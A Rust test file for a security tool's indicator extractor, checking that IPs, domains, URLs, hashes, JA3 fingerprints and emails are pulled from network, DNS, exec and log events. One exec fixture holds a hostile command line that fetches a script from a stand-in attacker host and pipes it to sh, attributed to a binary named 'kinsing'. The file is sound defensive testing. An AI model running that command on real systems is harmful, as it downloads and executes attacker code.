//! What events show.

use super::*;
use proptest::prelude::*;
use record::{Dns, Exec, Log, NetActivity, Pair, Proc, Process};

fn event(activity: Activity) -> Event {
    Event { seq: 0, time_us: 0, process: None, activity }
}

fn seen(event: &Event) -> Vec<(Kind, String)> {
    let mut all = Vec::new();
    Observer::new(false).look(event, |seen| {
        assert_eq!(seen.key, Key::of(seen.kind, seen.value));
        all.push((seen.kind, seen.value.to_string()));
    });
    all
}

fn log(fields: &[(&str, &str)]) -> Event {
    let fields = fields.iter().map(|(name, value)| Pair::new(*name, *value)).collect();
    event(Activity::Log(Log { source: "nginx".into(), fields, ..Log::default() }))
}

fn owned(rows: &[(Kind, &str)]) -> Vec<(Kind, String)> {
    rows.iter().map(|(kind, value)| (*kind, value.to_string())).collect()
}

#[test]
fn parents_end_above_the_registry() {
    let names = |name: &'static str| parents(name).collect::<Vec<_>>();
    assert_eq!(names("a.b.evil.example"), ["a.b.evil.example", "b.evil.example", "evil.example"]);
    assert_eq!(names("evil.example"), ["evil.example"]);
    assert_eq!(names("www.evil.co.uk"), ["www.evil.co.uk", "evil.co.uk"]);
    assert_eq!(
        names("a.b.c.d.e.f.example"),
        ["a.b.c.d.e.f.example", "c.d.e.f.example", "d.e.f.example", "e.f.example", "f.example"]
    );
    assert_eq!(names("a.b.c.d.example"), ["a.b.c.d.example", "b.c.d.example", "c.d.example", "d.example"]);
    assert!(names("co.uk").is_empty() && names("localhost").is_empty() && names("").is_empty());
}

#[test]
fn a_connection_shows_address_and_name_but_not_ones_own() {
    let net = |ip: [u8; 4]| NetActivity {
        remote_ip: ip.to_vec(),
        remote_name: "C2.Evil.example".into(),
        ..NetActivity::default()
    };
    assert_eq!(
        seen(&event(Activity::Net(net([198, 51, 100, 7])))),
        owned(&[(Kind::Ip, "198.51.100.7"), (Kind::Domain, "c2.evil.example"), (Kind::Domain, "evil.example")])
    );
    assert_eq!(seen(&event(Activity::Net(net([10, 0, 0, 1])))).len(), 2);
    let mut all = 0;
    Observer::new(true).look(&event(Activity::Net(net([127, 0, 0, 1]))), |_| all += 1);
    assert_eq!(all, 3);
    let dns = Dns { name: "x.evil.example.".into(), ..Dns::default() };
    assert_eq!(seen(&event(Activity::Dns(dns))).len(), 2);
}

#[test]
fn an_exec_shows_its_file_and_the_urls_of_its_command_line() {
    let mut process = Process {
        cmd_line: "sh -c 'curl -s http://Evil.example/x.sh|sh; wget ftp://198.51.100.7/a'".into(),
        ..Process::default()
    };
    process.exe = FileId { path: "/tmp/kinsing".into(), sha256: vec![0xab; 32], ..FileId::default() };
    let mut event = event(Activity::Exec(Exec::default()));
    event.process = Some(Proc::new(process, None));
    let hash = "ab".repeat(32);
    assert_eq!(
        seen(&event),
        owned(&[
            (Kind::Path, "/tmp/kinsing"),
            (Kind::Path, "kinsing"),
            (Kind::Sha256, &hash),
            (Kind::Url, "evil.example/x.sh"),
            (Kind::Domain, "evil.example"),
            (Kind::Url, "ftp://198.51.100.7/a"),
            (Kind::Ip, "198.51.100.7"),
        ])
    );
}

#[test]
fn a_log_shows_what_its_fields_hold() {
    let fields = [
        ("c-ip", "198.51.100.7"),
        ("cs-host", "Evil.example:443"),
        ("cs-uri-stem", "/a/../Gate.php"),
        ("cs-uri-query", "id=1"),
    ];
    assert_eq!(
        seen(&log(&fields)),
        owned(&[(Kind::Ip, "198.51.100.7"), (Kind::Domain, "evil.example"), (Kind::Url, "evil.example/Gate.php?id=1")])
    );
    let fields = [
        ("requestParameters.sourceIPAddress", "198.51.100.7, 10.0.0.1"),
        ("tls.ja3", "E7D705A3286E19EA42F587B344EE6865"),
        ("from", "A <who@Evil.example>"),
        ("user", "evil.example"),
    ];
    assert_eq!(
        seen(&log(&fields)),
        owned(&[
            (Kind::Ip, "198.51.100.7"),
            (Kind::Ja3, "e7d705a3286e19ea42f587b344ee6865"),
            (Kind::Email, "who@evil.example"),
            (Kind::Domain, "evil.example"),
        ])
    );
    assert!(seen(&log(&[("cs-uri", "/x"), ("md5", "zz")])).is_empty());
}

proptest! {
    #[test]
    fn a_url_that_was_seen_has_the_key_of_its_indicator(
        host in "[a-zA-Z0-9.-]{0,14}(:[0-9]{1,5})?", path in "(/[ -~é]{0,14})?", query in "([ -~]{1,8})?",
    ) {
        let mark = if query.is_empty() || path.is_empty() { String::new() } else { format!("?{query}") };
        for scheme in ["http", "https"] {
            let other = match scheme { "http" => 443, _ => 80 };
            let whole = format!("{scheme}://{host}{path}{mark}");
            let Ok(value) = canonical(Kind::Url, &whole) else { continue };
            // A port that is the other scheme's own is left out of what is seen; no source writes such URLs.
            if host.rsplit(':').next().and_then(|port| port.parse::<u16>().ok()) == Some(other) || query.contains('#') && path.contains('#') { continue }
            let mut keys = Vec::new();
            Observer::new(true).look(&log(&[("url", &whole)]), |seen| if seen.kind == Kind::Url { keys.push(seen.key) });
            prop_assert_eq!(keys, vec![Key::of(Kind::Url, &value)], "{}", whole);
        }
    }

    #[test]
    fn hostile_fields_never_panic(name in 0..6usize, value in "\\PC{0,60}") {
        let name = ["c-ip", "cs-host", "url", "cs-uri", "from", "command"][name];
        seen(&log(&[("cs-host", &value), (name, &value)]));
    }
}
